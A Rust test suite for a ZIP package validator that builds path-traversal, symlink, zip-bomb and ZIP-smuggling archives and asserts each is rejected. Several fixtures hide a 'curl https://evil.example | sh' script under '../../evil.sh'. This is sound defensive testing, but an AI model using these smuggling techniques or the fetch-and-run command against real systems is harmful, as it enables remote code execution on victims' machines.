//! The corpus: valid packages pass; every hostile or broken archive ends with
//! the right check failed. Built in memory, validated through the same core
//! that reads S3 in production.

use std::future::Future;

use bytes::Bytes;
use sha2::{Digest, Sha256};
use validator::source::{MemorySource, Source, SourceError};
use validator::testzip::{
    self as support, Descriptor, Options, Spec, build, hidden_file, manifest, valid_entries,
};
use validator::{CheckId, Expectation, Report, validate};

fn expect(sha256: Option<String>) -> Expectation {
    Expectation {
        name: "tool".into(),
        version: "1.0.0".into(),
        sha256,
    }
}

async fn run(bytes: Vec<u8>) -> Report {
    validate(&MemorySource::new(bytes), &expect(None))
        .await
        .expect("reading memory never fails")
}

fn failed(report: &Report) -> Vec<&'static str> {
    report
        .checks
        .iter()
        .filter(|c| !c.ok)
        .map(|c| c.id.as_str())
        .collect()
}

fn message<'a>(report: &'a Report, id: &str) -> &'a str {
    report
        .checks
        .iter()
        .find(|c| c.id.as_str() == id)
        .map(|c| c.message.as_str())
        .unwrap_or_default()
}

#[tokio::test]
async fn valid_stored_and_deflated_package_passes_every_check() {
    let report = run(build(&valid_entries(), &Options::default())).await;
    assert!(report.passed(), "{report:#?}");
    let ids: Vec<&str> = report.checks.iter().map(|c| c.id.as_str()).collect();
    assert_eq!(
        ids,
        [
            "zip.readable",
            "zip.no_encryption",
            "zip.paths_safe",
            "zip.no_symlinks",
            "zip.no_duplicates",
            "zip.no_overlap",
            "zip.ratio",
            "zip.entry_count",
            "zip.crc",
            "zip.consistent",
            "package.manifest",
            "package.readme",
            "object.sha256"
        ]
    );
    assert_eq!(report.entries, 3);
    assert_eq!(
        report.manifest.as_ref().and_then(|m| m["name"].as_str()),
        Some("tool")
    );
}

#[tokio::test]
async fn each_check_is_found_by_its_id_not_its_place() {
    // A report is read by check id: every id a full report has appears once,
    // and a lookup by id finds that check wherever it stands.
    let mut entries = valid_entries();
    entries.push(Spec::stored("../evil", b"x"));
    let report = run(build(&entries, &Options::default())).await;
    for id in CheckId::ALL {
        let found: Vec<_> = report.checks.iter().filter(|c| c.id == id).collect();
        match id {
            CheckId::Complete => assert!(found.is_empty()),
            _ => assert_eq!(found.len(), 1, "{id}: {report:#?}"),
        }
        if let Some(check) = report.check(id) {
            assert_eq!(check.id, id);
        }
    }
    assert_eq!(report.failed(), [CheckId::PathsSafe]);
    assert!(!report.check(CheckId::PathsSafe).is_some_and(|c| c.ok));
    let incomplete = validator::Report::incomplete("no time");
    assert_eq!(incomplete.failed(), [CheckId::Complete]);
    assert_eq!(
        serde_json::to_value(&incomplete).unwrap()["checks"][0]["id"],
        "validation.complete"
    );
}

#[tokio::test]
async fn package_in_a_single_top_folder_passes() {
    let entries = vec![
        Spec::stored("tool-1.0.0/", b""),
        Spec::deflated("tool-1.0.0/package.json", &manifest("tool", "1.0.0")),
        Spec::stored("tool-1.0.0/README", b"hi"),
    ];
    let report = run(build(&entries, &Options::default())).await;
    assert!(report.passed(), "{report:#?}");
}

#[tokio::test]
async fn declared_sha256_must_match_the_object() {
    let bytes = build(&valid_entries(), &Options::default());
    let digest: String = Sha256::digest(&bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let good = validate(
        &MemorySource::new(bytes.clone()),
        &expect(Some(digest.clone())),
    )
    .await
    .unwrap();
    assert!(good.passed());
    assert_eq!(good.sha256.as_deref(), Some(digest.as_str()));
    let bad = validate(&MemorySource::new(bytes), &expect(Some("0".repeat(64))))
        .await
        .unwrap();
    assert_eq!(failed(&bad), ["object.sha256"]);
}

#[tokio::test]
async fn zip64_archive_of_more_than_65535_entries_passes() {
    let mut entries = valid_entries();
    entries.extend((0..65_600).map(|i| Spec::stored(&format!("data/{i}"), b"x")));
    let report = run(build(&entries, &Options::default())).await;
    assert!(report.passed(), "{:?}", failed(&report));
    assert_eq!(report.entries, 65_603);
}

#[tokio::test]
async fn zip64_end_records_are_read_when_forced() {
    let report = run(build(
        &valid_entries(),
        &Options {
            zip64: true,
            ..Options::default()
        },
    ))
    .await;
    assert!(report.passed(), "{report:#?}");
}

/// A source of `header + zeros + trailer`, so an archive with a 4+ GiB entry
/// exists without 4 GiB of memory.
#[derive(Clone)]
struct Sparse {
    head: Bytes,
    zeros: u64,
    tail: Bytes,
}

impl Source for Sparse {
    fn len(&self) -> u64 {
        self.head.len() as u64 + self.zeros + self.tail.len() as u64
    }

    fn read_at(
        &self,
        offset: u64,
        len: u64,
    ) -> impl Future<Output = Result<Bytes, SourceError>> + Send {
        let this = self.clone();
        async move {
            let mut out = Vec::with_capacity(len as usize);
            for at in offset..offset + len {
                let head = this.head.len() as u64;
                out.push(if at < head {
                    this.head[at as usize]
                } else if at < head + this.zeros {
                    0
                } else {
                    this.tail[(at - head - this.zeros) as usize]
                });
            }
            Ok(Bytes::from(out))
        }
    }
}

#[tokio::test]
async fn zip64_entry_over_four_gibibytes_is_read_from_its_extra_field() {
    let size: u64 = 4 * 1024 * 1024 * 1024 + 17;
    let spec = Spec::stored("big.bin", b"");
    // Local header of a stored entry whose data is `size` zeros.
    let mut head = Vec::new();
    head.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
    head.extend_from_slice(&[45, 0, 0, 8, 0, 0, 0, 0, 0x21, 0]);
    head.extend_from_slice(&0u32.to_le_bytes());
    head.extend_from_slice(&u32::MAX.to_le_bytes());
    head.extend_from_slice(&u32::MAX.to_le_bytes());
    head.extend_from_slice(&(spec.name.len() as u16).to_le_bytes());
    head.extend_from_slice(&0u16.to_le_bytes());
    head.extend_from_slice(&spec.name);
    let data_end = head.len() as u64 + size;
    let central = support::central_entry(&spec, 0, size, size, 0);
    // Build the tail as if the data were there: only offsets matter.
    let tail_only = support::finish(
        Vec::new(),
        central,
        1,
        &Options {
            zip64: true,
            ..Options::default()
        },
    );
    // finish() wrote offsets relative to an empty prefix: patch them to absolute ones.
    let mut tail = tail_only.clone();
    let cd_len = tail_only.len() - 56 - 20 - 22;
    let record_at = cd_len;
    tail[record_at + 48..record_at + 56].copy_from_slice(&data_end.to_le_bytes());
    let locator_at = record_at + 56;
    tail[locator_at + 8..locator_at + 16]
        .copy_from_slice(&(data_end + cd_len as u64).to_le_bytes());
    let source = Sparse {
        head: Bytes::from(head),
        zeros: size,
        tail: Bytes::from(tail),
    };
    let directory = validator::zip::read_directory(&source)
        .await
        .expect("the directory reads");
    assert_eq!(directory.entries.len(), 1);
    assert_eq!(directory.entries[0].uncompressed_size, size);
    assert_eq!(directory.entries[0].compressed_size, size);
    assert_eq!(directory.directory_offset, data_end);
}

#[tokio::test]
async fn deflated_entry_larger_than_the_inflate_buffer_passes() {
    // 1 MiB of text inflates through many output blocks, though its
    // compressed bytes arrive in one read.
    let text: Vec<u8> = (0..40_000u32)
        .flat_map(|i| format!("line {i} of the data file\n").into_bytes())
        .collect();
    let mut entries = valid_entries();
    entries.push(Spec::deflated("data/lines.txt", &text));
    let report = run(build(&entries, &Options::default())).await;
    assert!(report.passed(), "{:?}", failed(&report));
}

#[tokio::test]
async fn ratio_bomb_is_rejected_without_inflating_it() {
    let mut entries = valid_entries();
    entries.push(Spec::deflated("zeros.bin", &vec![0u8; 50 * 1024 * 1024]));
    let report = run(build(&entries, &Options::default())).await;
    assert_eq!(failed(&report), ["zip.ratio", "zip.crc"], "{report:#?}");
    assert!(message(&report, "zip.crc").contains("not checked"));
}

#[tokio::test]
async fn entry_inflating_past_its_declared_size_is_stopped_there() {
    let mut entries = valid_entries();
    let mut liar = Spec::deflated("liar.bin", &vec![7u8; 200_000]);
    liar.sizes = Some((0, 1000)); // filled in below
    let compressed_len = {
        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut e, &liar.data).unwrap();
        e.finish().unwrap().len() as u64
    };
    liar.sizes = Some((compressed_len, 1000));
    entries.push(liar);
    let report = run(build(&entries, &Options::default())).await;
    assert_eq!(failed(&report), ["zip.crc"], "{report:#?}");
    assert!(
        message(&report, "zip.crc").contains("inflates to"),
        "{}",
        message(&report, "zip.crc")
    );
}

#[tokio::test]
async fn overlapping_entries_bomb_is_rejected() {
    // One compressed kernel; many directory entries pointing at it.
    let kernel = Spec::deflated("k", &vec![0u8; 100_000]);
    let single = build(std::slice::from_ref(&kernel), &Options::default());
    let local_len = single.len() - (46 + 1) - 22;
    let compressed = {
        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut e, &kernel.data).unwrap();
        e.finish().unwrap()
    };
    let crc = {
        let mut h = crc32fast::Hasher::new();
        h.update(&kernel.data);
        h.finalize()
    };
    let mut central = Vec::new();
    let names: Vec<String> = (0..10).map(|i| format!("f{i}")).collect();
    for name in &names {
        let spec = Spec::deflated(name, &kernel.data);
        central.extend(support::central_entry(
            &spec,
            crc,
            compressed.len() as u64,
            100_000,
            0,
        ));
    }
    let bytes = support::finish(
        single[..local_len].to_vec(),
        central,
        names.len() as u64,
        &Options::default(),
    );
    let report = run(bytes).await;
    assert!(failed(&report).contains(&"zip.no_overlap"), "{report:#?}");
    assert!(failed(&report).contains(&"zip.crc"));
}

async fn fails_only(specs: Vec<Spec>, check: &str) -> Report {
    let report = run(build(&specs, &Options::default())).await;
    assert_eq!(failed(&report), [check], "{report:#?}");
    report
}

fn with(extra: Spec) -> Vec<Spec> {
    let mut entries = valid_entries();
    entries.push(extra);
    entries
}

#[tokio::test]
async fn parent_directory_escape_is_rejected() {
    let report = fails_only(with(Spec::stored("../evil", b"x")), "zip.paths_safe").await;
    assert!(message(&report, "zip.paths_safe").contains(".."));
}

#[tokio::test]
async fn absolute_path_is_rejected() {
    fails_only(with(Spec::stored("/etc/passwd", b"x")), "zip.paths_safe").await;
}

#[tokio::test]
async fn windows_drive_path_is_rejected() {
    fails_only(with(Spec::stored("C:\\x", b"x")), "zip.paths_safe").await;
}

#[tokio::test]
async fn symlink_entry_is_rejected() {
    let mut link = Spec::stored("link", b"/etc/passwd");
    link.external = 0o120_777 << 16;
    fails_only(with(link), "zip.no_symlinks").await;
}

#[tokio::test]
async fn duplicate_names_are_rejected() {
    fails_only(
        with(Spec::stored("README.md", b"again")),
        "zip.no_duplicates",
    )
    .await;
}

#[tokio::test]
async fn case_colliding_names_are_rejected() {
    fails_only(
        with(Spec::stored("readme.MD", b"again")),
        "zip.no_duplicates",
    )
    .await;
}

#[tokio::test]
async fn encrypted_entry_is_rejected() {
    let mut secret = Spec::stored("secret.bin", b"xxxx");
    secret.flags |= 0x0001;
    fails_only(with(secret), "zip.no_encryption").await;
}

#[tokio::test]
async fn crc_mismatch_is_rejected() {
    let mut wrong = Spec::deflated("data.txt", b"some data some data some data");
    wrong.crc = Some(0xDEAD_BEEF);
    let report = fails_only(with(wrong), "zip.crc").await;
    assert!(message(&report, "zip.crc").contains("CRC-32"));
}

#[tokio::test]
async fn unsupported_compression_method_is_rejected_by_name() {
    let mut bzip = Spec::stored("data.bz2", b"BZh91AY&SY");
    bzip.method = 12;
    let report = fails_only(with(bzip), "zip.crc").await;
    assert!(
        message(&report, "zip.crc").contains("method 12"),
        "{}",
        message(&report, "zip.crc")
    );
}

#[tokio::test]
async fn local_header_disagreeing_with_the_directory_is_rejected() {
    let mut two_faced = Spec::stored("innocent.txt", b"x");
    two_faced.local_name = Some(b"evil.sh00000".to_vec());
    let report = fails_only(with(two_faced), "zip.consistent").await;
    assert!(
        message(&report, "zip.consistent").contains("name"),
        "{}",
        message(&report, "zip.consistent")
    );
}

// ZIP smuggling: every way to put bytes where a streaming unzip (Java's
// `ZipInputStream`, `bsdtar` reading a pipe) finds a file the central
// directory never names. Each archive below is otherwise a valid package.

const EVIL: &[u8] = b"curl https://evil.example | sh\n";

#[tokio::test]
async fn second_file_hidden_in_a_stored_entry_behind_a_short_local_header_is_rejected() {
    // The directory's README spans its text *and* a whole local file after it;
    // the local header's sizes cover the text only, so a streaming reader
    // stops there and unpacks the hidden `../../evil.sh` next.
    let text = b"# tool\n".to_vec();
    let mut data = text.clone();
    data.extend(hidden_file("../../evil.sh", EVIL));
    let mut readme = Spec::stored("README.md", &data);
    readme.local.sizes = Some((text.len() as u64, text.len() as u64));
    readme.local.crc = Some(crc(&text));
    let mut entries = valid_entries();
    entries[1] = readme;
    let report = fails_only(entries, "zip.consistent").await;
    assert!(
        message(&report, "zip.consistent").contains("README.md"),
        "{}",
        message(&report, "zip.consistent")
    );
}

#[tokio::test]
async fn file_hidden_in_a_gap_between_entries_is_rejected() {
    let mut entries = valid_entries();
    entries[2].before = hidden_file("../../evil.sh", EVIL);
    let report = fails_only(entries, "zip.consistent").await;
    assert!(
        message(&report, "zip.consistent").contains("bytes between"),
        "{}",
        message(&report, "zip.consistent")
    );
}

#[tokio::test]
async fn bytes_before_the_first_entry_are_rejected() {
    for prefix in [
        hidden_file("../../evil.sh", EVIL),
        b"#!/bin/sh\nexec unzip \"$0\"\n".to_vec(),
    ] {
        let bytes = build(
            &valid_entries(),
            &Options {
                prefix,
                ..Options::default()
            },
        );
        let report = run(bytes).await;
        assert_eq!(failed(&report), ["zip.consistent"], "{report:#?}");
        assert!(
            message(&report, "zip.consistent").contains("before the first entry"),
            "{}",
            message(&report, "zip.consistent")
        );
    }
}

#[tokio::test]
async fn file_hidden_between_the_last_entry_and_the_central_directory_is_rejected() {
    let bytes = build(
        &valid_entries(),
        &Options {
            before_directory: hidden_file("../../evil.sh", EVIL),
            ..Options::default()
        },
    );
    let report = run(bytes).await;
    assert_eq!(failed(&report), ["zip.consistent"], "{report:#?}");
    assert!(
        message(&report, "zip.consistent").contains("central directory"),
        "{}",
        message(&report, "zip.consistent")
    );
}

#[tokio::test]
async fn bytes_between_the_central_directory_and_the_end_record_are_rejected() {
    for zip64 in [false, true] {
        let bytes = build(
            &valid_entries(),
            &Options {
                after_directory: hidden_file("../../evil.sh", EVIL),
                zip64,
                ..Options::default()
            },
        );
        let report = run(bytes).await;
        assert_eq!(
            failed(&report),
            ["zip.consistent"],
            "zip64 {zip64}: {report:#?}"
        );
    }
}

#[tokio::test]
async fn local_header_with_another_crc_is_rejected() {
    let mut entries = valid_entries();
    entries[1].local.crc = Some(0xDEAD_BEEF);
    let report = fails_only(entries, "zip.consistent").await;
    assert!(message(&report, "zip.consistent").contains("CRC"));
}

#[tokio::test]
async fn local_header_with_other_sizes_is_rejected() {
    let mut entries = valid_entries();
    let len = entries[2].data.len() as u64;
    entries[2].local.sizes = Some((len, len));
    let report = fails_only(entries, "zip.consistent").await;
    assert!(message(&report, "zip.consistent").contains("size"));
}

#[tokio::test]
async fn local_header_with_another_compression_method_is_rejected() {
    let mut entries = valid_entries();
    entries[1].local.method = Some(8);
    let report = fails_only(entries, "zip.consistent").await;
    assert!(message(&report, "zip.consistent").contains("method"));
}

#[tokio::test]
async fn local_header_with_other_flags_is_rejected() {
    // The encryption bit, and the data-descriptor bit (which moves where a
    // streaming reader thinks the entry ends), each set in one header only.
    for flags in [0x0801, 0x0808] {
        let mut entries = valid_entries();
        entries[1].local.flags = Some(flags);
        let report = fails_only(entries, "zip.consistent").await;
        assert!(
            message(&report, "zip.consistent").contains("flags"),
            "{}",
            message(&report, "zip.consistent")
        );
    }
}

#[tokio::test]
async fn data_descriptors_with_or_without_signature_and_in_zip64_pass() {
    for signature in [true, false] {
        for zip64 in [false, true] {
            let entries: Vec<Spec> = valid_entries()
                .into_iter()
                .map(|spec| {
                    spec.with_descriptor(Descriptor {
                        signature,
                        zip64,
                        ..Descriptor::default()
                    })
                })
                .collect();
            let report = run(build(&entries, &Options::default())).await;
            assert!(
                report.passed(),
                "signature {signature}, zip64 {zip64}: {report:#?}"
            );
        }
    }
}

#[tokio::test]
async fn data_descriptor_with_other_sizes_or_crc_is_rejected() {
    let true_sizes = {
        let spec = &valid_entries()[2];
        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut e, &spec.data).unwrap();
        (e.finish().unwrap().len() as u64, spec.data.len() as u64)
    };
    for (zip64, lie) in [
        (
            false,
            Descriptor {
                crc: Some(0xDEAD_BEEF),
                ..Descriptor::default()
            },
        ),
        (
            false,
            Descriptor {
                sizes: Some((true_sizes.0, true_sizes.1 + 1)),
                ..Descriptor::default()
            },
        ),
        (
            true,
            Descriptor {
                sizes: Some((true_sizes.0 + 1, true_sizes.1)),
                ..Descriptor::default()
            },
        ),
    ] {
        let mut entries = valid_entries();
        let lie = Descriptor {
            signature: true,
            zip64,
            ..lie
        };
        entries[2] = entries[2].clone().with_descriptor(lie.clone());
        let report = fails_only(entries, "zip.consistent").await;
        assert!(
            message(&report, "zip.consistent").contains("descriptor"),
            "{lie:?}: {}",
            message(&report, "zip.consistent")
        );
    }
}

#[tokio::test]
async fn bytes_hidden_after_a_deflate_stream_inside_its_entry_are_rejected() {
    // The deflate stream ends early; the rest of the entry's compressed bytes
    // are a local file that a reader continuing after the stream finds.
    let mut entries = valid_entries();
    let spec = &mut entries[2];
    let body = {
        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut e, &spec.data).unwrap();
        e.finish().unwrap()
    };
    spec.after_data = hidden_file("../../evil.sh", EVIL);
    spec.sizes = Some((
        (body.len() + spec.after_data.len()) as u64,
        spec.data.len() as u64,
    ));
    let report = fails_only(entries, "zip.consistent").await;
    assert!(
        message(&report, "zip.consistent").contains("deflate stream ends"),
        "{}",
        message(&report, "zip.consistent")
    );
}

#[tokio::test]
async fn stored_entry_with_a_fake_data_descriptor_inside_its_data_is_rejected() {
    // A stored entry with a data descriptor has no length up front: libarchive
    // ends it at the first `PK\x07\x08` followed by the CRC of what came before,
    // so a fake descriptor inside the data ends it early, and what follows is read
    // as the next local header.
    let text = b"# tool\n".to_vec();
    let mut data = text.clone();
    data.extend_from_slice(&0x0807_4b50u32.to_le_bytes());
    data.extend_from_slice(&crc(&text).to_le_bytes());
    data.extend_from_slice(&(text.len() as u32).to_le_bytes());
    data.extend_from_slice(&(text.len() as u32).to_le_bytes());
    data.extend(hidden_file("../../evil.sh", EVIL));
    let mut entries = valid_entries();
    entries[1] = Spec::stored("README.md", &data).with_descriptor(Descriptor {
        signature: true,
        ..Descriptor::default()
    });
    let report = fails_only(entries, "zip.consistent").await;
    assert!(
        message(&report, "zip.consistent").contains("descriptor"),
        "{}",
        message(&report, "zip.consistent")
    );
}

#[tokio::test]
async fn unicode_path_extra_field_naming_another_file_is_rejected() {
    // Info-ZIP's Unicode Path field (0x7075) overrides the name for tools that
    // read it (unzip, 7-Zip): `zip.paths_safe` must see the name they will use.
    let unicode_path = |name: &str, of: &str| {
        let mut field = 0x7075u16.to_le_bytes().to_vec();
        field.extend_from_slice(&((5 + name.len()) as u16).to_le_bytes());
        field.push(1);
        field.extend_from_slice(&crc(of.as_bytes()).to_le_bytes());
        field.extend_from_slice(name.as_bytes());
        field
    };
    for in_local in [true, false] {
        let mut entries = valid_entries();
        let field = unicode_path("../../evil.sh", "README.md");
        if in_local {
            entries[1].local_extra = field;
        } else {
            entries[1].central_extra = field;
        }
        let report = fails_only(entries, "zip.consistent").await;
        assert!(
            message(&report, "zip.consistent").contains("Unicode"),
            "{}",
            message(&report, "zip.consistent")
        );
    }
    // The same field naming the entry's own name is fine.
    let mut entries = valid_entries();
    entries[1].local_extra = unicode_path("README.md", "README.md");
    entries[1].central_extra = unicode_path("README.md", "README.md");
    let report = run(build(&entries, &Options::default())).await;
    assert!(report.passed(), "{report:#?}");
}

#[tokio::test]
async fn local_extra_fields_unlike_the_directorys_are_allowed() {
    // Info-ZIP writes a longer extended-timestamp field locally than in the directory.
    let mut entries = valid_entries();
    for spec in &mut entries {
        spec.local_extra = vec![0x55, 0x54, 0x09, 0x00, 0x03, 1, 2, 3, 4, 5, 6, 7, 8];
        spec.central_extra = vec![0x55, 0x54, 0x05, 0x00, 0x03, 1, 2, 3, 4];
    }
    let report = run(build(&entries, &Options::default())).await;
    assert!(report.passed(), "{report:#?}");
}

fn crc(data: &[u8]) -> u32 {
    let mut h = crc32fast::Hasher::new();
    h.update(data);
    h.finalize()
}

// Whole-archive ratio: many entries just under the per-entry rule's 1 MiB.

#[tokio::test]
async fn sixty_five_thousand_entries_of_a_mebibyte_of_zeros_are_rejected_by_the_archive_ratio() {
    // 65,000 x 1 MiB of zeros is 63.5 GiB (under the 64 GiB cap), and no entry
    // is over 1 MiB; deflate makes each about 1 KiB. The directory says so; the
    // data need not be real deflate for a check over metadata.
    const MIB: u64 = 1024 * 1024;
    let body = vec![0u8; 1_030];
    let zeros = {
        let mut h = crc32fast::Hasher::new();
        h.update(&vec![0u8; MIB as usize]);
        h.finalize()
    };
    let mut entries = valid_entries();
    entries.extend((0..65_000).map(|i| {
        let mut spec = Spec::stored(&format!("z/{i:05}"), &body);
        spec.method = 8;
        spec.crc = Some(zeros);
        spec.sizes = Some((body.len() as u64, MIB));
        spec
    }));
    let bytes = build(&entries, &Options::default());
    let report = run(bytes).await;
    assert!(
        failed(&report).contains(&"zip.ratio"),
        "{:?}",
        failed(&report)
    );
    assert!(
        message(&report, "zip.ratio").contains("archive"),
        "{}",
        message(&report, "zip.ratio")
    );
}

// Nothing gets stuck: hostile numbers fail checks, and a report always fits
// the version's DynamoDB item (400 KB).

#[tokio::test]
async fn offsets_and_sizes_near_the_top_of_u64_fail_checks_instead_of_overflowing() {
    // A README and a source file, then one hostile directory entry (ZIP64
    // extra field) whose offset or sizes sit at the top of the u64 range.
    let real = build(&valid_entries()[1..], &Options::default());
    let cd_len = {
        let eocd = &real[real.len() - 22..];
        u32::from_le_bytes([eocd[12], eocd[13], eocd[14], eocd[15]]) as usize
    };
    let cd_at = real.len() - 22 - cd_len;
    for (offset, csize, usize_) in [
        (u64::MAX - 3, 10, 20),
        (u64::MAX, 10, 20),
        (u64::MAX - 40, u64::MAX - 2, 5),
        (0, u64::MAX, u64::MAX),
        (0, u64::MAX - 29, 5),
    ] {
        for name in ["package.json", "other.bin"] {
            let mut central = real[cd_at..real.len() - 22].to_vec();
            central.extend(support::central_entry(
                &Spec::stored(name, b""),
                0,
                csize,
                usize_,
                offset,
            ));
            let bytes = support::finish(real[..cd_at].to_vec(), central, 3, &Options::default());
            let report = run(bytes).await;
            assert!(
                !report.passed(),
                "{offset} {csize} {usize_} {name}: {report:#?}"
            );
        }
    }
}

#[tokio::test]
async fn report_of_a_hostile_archive_fits_a_dynamodb_item() {
    // Names of 60,000 bytes: unsafe, duplicated, symlinks; and a manifest of
    // nearly 1 MiB. Every list in the report is cut short with a count.
    let long = |prefix: &str, i: usize| format!("{prefix}{i}{}", "a".repeat(60_000));
    let mut entries = vec![
        Spec::deflated(
            "package.json",
            format!(
                r#"{{"name": "tool", "version": "1.0.0", "description": "{}"}}"#,
                "d".repeat(900_000)
            )
            .as_bytes(),
        ),
        Spec::stored("README.md", b"hi"),
    ];
    for i in 0..12 {
        entries.push(Spec::stored(&long("../", i), b"x"));
        entries.push(Spec::stored(&long("dup", i), b"x"));
        entries.push(Spec::stored(&long("DUP", i), b"x"));
        let mut link = Spec::stored(&long("link", i), b"/etc/passwd");
        link.external = 0o120_777 << 16;
        entries.push(link);
    }
    let report = run(build(&entries, &Options::default())).await;
    assert!(!report.passed());
    let stored = serde_json::to_vec(&report).unwrap();
    assert!(
        stored.len() <= 300 * 1024,
        "the report is {} bytes",
        stored.len()
    );
    assert!(
        message(&report, "zip.paths_safe").contains("and 7 more"),
        "{}",
        &message(&report, "zip.paths_safe")[..200]
    );
    assert_eq!(
        report.manifest.as_ref().and_then(|m| m["name"].as_str()),
        Some("tool")
    );
}

#[tokio::test]
async fn wrong_manifest_name_or_version_is_rejected() {
    for (name, version) in [("other", "1.0.0"), ("tool", "2.0.0")] {
        let mut entries = valid_entries();
        entries[0] = Spec::deflated("package.json", &manifest(name, version));
        fails_only(entries, "package.manifest").await;
    }
}

#[tokio::test]
async fn missing_or_broken_manifest_is_rejected() {
    let mut entries = valid_entries();
    entries.remove(0);
    fails_only(entries, "package.manifest").await;
    let mut broken = valid_entries();
    broken[0] = Spec::stored("package.json", b"{not json");
    fails_only(broken, "package.manifest").await;
}

#[tokio::test]
async fn missing_readme_is_rejected() {
    let mut entries = valid_entries();
    entries.remove(1);
    fails_only(entries, "package.readme").await;
}

#[tokio::test]
async fn truncated_archive_is_unreadable() {
    let bytes = build(&valid_entries(), &Options::default());
    for cut in [1, 10, 30, bytes.len() / 2] {
        let report = run(bytes[..bytes.len() - cut].to_vec()).await;
        assert_eq!(failed(&report), ["zip.readable"], "cut {cut}: {report:#?}");
    }
}

#[tokio::test]
async fn garbage_is_unreadable() {
    for garbage in [
        vec![],
        vec![0u8; 10],
        b"hello world, not a zip at all".repeat(100),
        vec![0xFF; 70_000],
    ] {
        let report = run(garbage).await;
        assert_eq!(failed(&report), ["zip.readable"]);
        assert_eq!(
            report.checks.len(),
            1,
            "a fatal structural error stops the checks"
        );
    }
}

#[tokio::test]
async fn data_appended_after_the_end_record_is_unreadable() {
    let bytes = build(
        &valid_entries(),
        &Options {
            trailing: b"PK\x05\x06 trailing junk".to_vec(),
            ..Options::default()
        },
    );
    let report = run(bytes).await;
    assert_eq!(failed(&report), ["zip.readable"], "{report:#?}");
}

#[tokio::test]
async fn end_record_comment_is_allowed_but_cannot_fake_the_directory() {
    let ok = run(build(
        &valid_entries(),
        &Options {
            comment: b"built by CI".to_vec(),
            ..Options::default()
        },
    ))
    .await;
    assert!(ok.passed(), "{ok:#?}");
    // A comment holding a second, fake end record that claims an empty archive.
    let mut fake = vec![0x50, 0x4b, 0x05, 0x06];
    fake.extend_from_slice(&[0u8; 18]);
    let tricked = run(build(
        &valid_entries(),
        &Options {
            comment: fake,
            ..Options::default()
        },
    ))
    .await;
    assert!(
        !tricked.passed(),
        "a fake end record in the comment must not yield a clean empty archive: {tricked:#?}"
    );
}

#[tokio::test]
async fn too_many_entries_are_refused_before_reading_the_directory() {
    // The end record claims 200,000 entries; nothing else is real.
    let mut eocd = vec![0x50, 0x4b, 0x05, 0x06, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF];
    eocd.extend_from_slice(&[0xFF; 8]);
    eocd.extend_from_slice(&[0, 0]);
    let mut bytes = Vec::new();
    bytes.extend_from_slice(&0x0606_4b50u32.to_le_bytes());
    bytes.extend_from_slice(&44u64.to_le_bytes());
    bytes.extend_from_slice(&[45, 0, 45, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    bytes.extend_from_slice(&200_000u64.to_le_bytes());
    bytes.extend_from_slice(&200_000u64.to_le_bytes());
    bytes.extend_from_slice(&(200_000u64 * 46).to_le_bytes());
    bytes.extend_from_slice(&0u64.to_le_bytes());
    bytes.extend_from_slice(&0x0706_4b50u32.to_le_bytes());
    bytes.extend_from_slice(&0u32.to_le_bytes());
    bytes.extend_from_slice(&0u64.to_le_bytes());
    bytes.extend_from_slice(&1u32.to_le_bytes());
    bytes.extend_from_slice(&eocd);
    let report = run(bytes).await;
    assert_eq!(failed(&report), ["zip.entry_count"], "{report:#?}");
}

#[tokio::test]
async fn random_corruption_never_panics() {
    let with_descriptors: Vec<Spec> = valid_entries()
        .into_iter()
        .enumerate()
        .map(|(i, spec)| {
            spec.with_descriptor(Descriptor {
                signature: i != 1,
                zip64: i == 2,
                ..Descriptor::default()
            })
        })
        .collect();
    for original in [
        build(&valid_entries(), &Options::default()),
        build(&with_descriptors, &Options::default()),
    ] {
        corrupt_at_random(original).await;
    }
}

async fn corrupt_at_random(original: Vec<u8>) {
    let mut state = 0x9E37_79B9_7F4A_7C15_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    for _ in 0..300 {
        let mut bytes = original.clone();
        for _ in 0..(1 + next() % 8) {
            let at = (next() % bytes.len() as u64) as usize;
            bytes[at] = next() as u8;
        }
        let report = run(bytes).await;
        assert!(!report.checks.is_empty());
    }
}

/// Writes the corpus' archives as seeds for the fuzzer (`infra/scripts/fuzz.sh`).
#[tokio::test]
#[ignore = "run by infra/scripts/fuzz.sh"]
async fn write_fuzz_seeds() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/corpus/validate");
    std::fs::create_dir_all(&dir).unwrap();
    let mut seeds = vec![
        build(&valid_entries(), &Options::default()),
        build(
            &valid_entries(),
            &Options {
                zip64: true,
                ..Options::default()
            },
        ),
        build(
            &valid_entries(),
            &Options {
                comment: b"comment".to_vec(),
                ..Options::default()
            },
        ),
    ];
    let mut link = Spec::stored("link", b"x");
    link.external = 0o120_777 << 16;
    seeds.push(build(
        &[link, Spec::stored("../x", b"y")],
        &Options::default(),
    ));
    // Data descriptors (signed, ZIP64), a gap and a prefix: the walk's paths.
    seeds.push(build(
        &valid_entries()
            .into_iter()
            .enumerate()
            .map(|(i, spec)| {
                spec.with_descriptor(Descriptor {
                    signature: i % 2 == 0,
                    zip64: i == 2,
                    ..Descriptor::default()
                })
            })
            .collect::<Vec<_>>(),
        &Options::default(),
    ));
    let mut gap = valid_entries();
    gap[1].before = hidden_file("x", b"y");
    seeds.push(build(
        &gap,
        &Options {
            prefix: b"stub".to_vec(),
            ..Options::default()
        },
    ));
    for (i, seed) in seeds.iter().enumerate() {
        std::fs::write(dir.join(format!("seed-{i}.zip")), seed).unwrap();
    }
}
